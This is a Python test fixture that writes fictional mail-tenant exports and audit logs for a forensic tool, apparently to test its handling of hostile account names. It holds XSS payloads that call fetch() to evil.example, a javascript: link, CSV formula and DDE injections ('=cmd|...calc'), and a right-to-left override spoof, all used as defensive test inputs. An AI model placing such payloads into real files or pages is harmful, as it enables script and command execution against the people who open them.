"""A small organisation with hostile names, written as real exports and loaded through the loaders."""

from __future__ import annotations

import csv
import json
from collections.abc import Sequence
from pathlib import Path

from hakyu.case import Case

FROM, UNTIL = "2022-10-01T00:00:00+00:00", "2023-06-14T00:00:00+00:00"
WHO = "hana@nisc.example"
# What a name may hold when somebody means harm: HTML, a formula, Markdown, a link, a template, a direction override.
HOSTILE = {
    "tag": "<img src=x onerror=\"fetch('http://evil.example/tag')\">",
    "sum": "=1+3",
    "link": "[x](javascript:fetch('http://evil.example/link')) ![y](http://evil.example/y.png)",
    "bold": "**bold** $x^2$ :material/home: {{7*7}} `code` ~gone~",
    "turn": "abc\u202egnp.exe",
    "close": "</script><script>fetch('http://evil.example/close')</script>",
}
EVIL_CORRESPONDENT = '=HYPERLINK("http://evil.example","click")'


def write(folder: Path, extra: int = 0) -> Path:
    """The exports; `extra` more shared mailboxes that hana may open, each owned by an account of its own."""
    folder.mkdir(parents=True, exist_ok=True)
    people = ["hana", "ken", "abe", "mari", "sato", *HOSTILE, *(f"user{n:05}" for n in range(extra))]
    names = {"hana": "山田 花子", "ken": "Ken Sato", "abe": "Abe Shinzo", "mari": "Mari Ito", "sato": "佐藤 健"} | HOSTILE
    _csv(folder / "accounts.csv", ["account", "display_name", "primary_smtp", "upn", "country", "enabled", "type"],
         [[p, names.get(p, p.capitalize()), f"{p}@nisc.example", f"{p}@corp.nisc.example", "JP", "true", "user"] for p in people])  # fmt: skip
    boxes = [[f"{p}@nisc.example", p, "user"] for p in people] + [["info@nisc.example", "", "shared"], ["desk@nisc.example", "", "shared"]]
    _csv(folder / "mailboxes.csv", ["mailbox", "owner", "type"], boxes)
    rights = [["ken", "full", WHO], ["info", "full", WHO], ["desk", "send_as", WHO], ["abe", "full", "ken@nisc.example"]]
    rights += [[name, "full", WHO] for name in (*HOSTILE, *(f"user{n:05}" for n in range(extra)))]
    _csv(folder / "delegations.csv", ["mailbox", "trustee", "right", "from", "to"],
         [[f"{box}@nisc.example", who, right, "2022-09-01", "2023-12-31"] for box, right, who in rights])  # fmt: skip
    _csv(folder / "servers.csv", ["host", "fqdn", "ip", "role", "owner"],
         [["EX01", "ex01.nisc.example", "192.0.2.10", "mail", "IT"], ["FS01", "fs01.nisc.example", "192.0.2.12", "file", "IT"]])  # fmt: skip
    _csv(folder / "access.csv", ["account", "host", "right", "source"],
         [[WHO, "fs01.nisc.example", "rdp", "AD"], [WHO, "vpn.nisc.example", "vpn", "AD"], ["mari@nisc.example", "ex01.nisc.example", "admin", "AD"]])  # fmt: skip
    _csv(folder / "correspondents.csv", ["address", "name", "organisation", "country", "category", "warned_at"], [
        ["x@abroad.example", EVIL_CORRESPONDENT, "Abroad GmbH", "DE", "abroad", "2023-08-04"],
        ["y@ministry.example", "鈴木 一郎", "外務省", "JP", "government", ""],
        ["z@vendor.example", "<b>Zoe</b>", "=cmd|'/c calc'!A1", "FR", "vendor", ""],
    ])  # fmt: skip
    mail = [("hana", "x@abroad.example", 3), ("info", "y@ministry.example", 2), ("ken", "z@vendor.example", 1), ("hana", "w@somewhere.example", 1),
            ("mari", "not-reached@abroad.example", 1)]  # fmt: skip
    _csv(folder / "trace.csv", ["Organization", "MessageId", "Received", "SenderAddress", "RecipientAddress", "Subject", "Status", "ToIP", "FromIP", "Size"], [
        ["nisc", f"<{box}{n}.{to}>", f"2023-0{n + 1}-02T01:00:00", to, f"{box}@nisc.example", "", "Delivered", "", "192.0.2.1", "100"]
        for box, to, count in mail for n in range(count)
    ])  # fmt: skip
    return folder


ATTACKER, OTHER = "203.0.113.7", "198.51.100.1"
COMPLETE = "2023-01-01"


def write_logs(folder: Path) -> Path:
    """An audit log in which the attacker's address opens hana's mailbox, ken's as her delegate, and mari's; and what was complete when."""
    folder.mkdir(parents=True, exist_ok=True)
    seen = [
        ("hana", "hana", ATTACKER, "2023-02-01T01:00:00"), ("ken", "hana", ATTACKER, "2023-02-02T01:00:00"), ("mari", "mari", ATTACKER, "2023-02-03T01:00:00"),
        ("abe", "abe", OTHER, "2023-02-04T01:00:00"), ("info", "hana", OTHER, "2023-02-05T01:00:00"),
    ]  # fmt: skip
    rows = []
    for n, (box, who, ip, at) in enumerate(seen):
        record = {
            "Id": f"00000000-0000-0000-0000-00000000000{n}", "CreationTime": at, "Operation": "MailItemsAccessed", "Workload": "Exchange", "RecordType": 50,
            "UserId": f"{who}@nisc.example", "UserType": 0, "MailboxOwnerUPN": f"{box}@nisc.example", "LogonType": 0 if box == who else 2,
            "ClientIPAddress": ip, "SessionId": f"session-{n}", "ClientInfoString": "Client=OWA;<b>Mozilla</b>", "ResultStatus": "Succeeded",
            "OperationProperties": [{"Name": "MailAccessType", "Value": "Bind"}], "Folders": [],
        }  # fmt: skip
        rows.append([at, record["UserId"], record["Operation"], json.dumps(record)])
    _csv(folder / "audit.csv", ["CreationDate", "UserIds", "Operations", "AuditData"], rows)
    _csv(folder / "coverage.csv", ["what", "scope", "first", "last", "blind", "note"], [["mail access", "", COMPLETE, "2023-05-01", "no", "by the tenant's retention"]])
    return folder


def case_with_logs(folder: Path) -> Path:
    """A case of the organisation and its logs, nothing marked: `folder`/seen.hakyu."""
    made = Case(folder / "seen.hakyu", {})
    report = made.load([write(folder / "exports"), write_logs(folder / "logs")])
    made.close()
    assert report.exit_code == 0, [line.sentence() for line in report.files]
    return made.folder


def _csv(path: Path, columns: Sequence[str], rows: Sequence[Sequence[str]]) -> None:
    with path.open("w", encoding="utf-8", newline="") as stream:
        csv.writer(stream).writerows([columns, *rows])


def case(folder: Path, extra: int = 0) -> Path:
    """A case of it: `folder`/small.hakyu."""
    made = Case(folder / "small.hakyu", {})
    report = made.load([write(folder / "exports", extra)])
    made.close()
    assert report.exit_code == 0, [line.sentence() for line in report.files]
    return made.folder
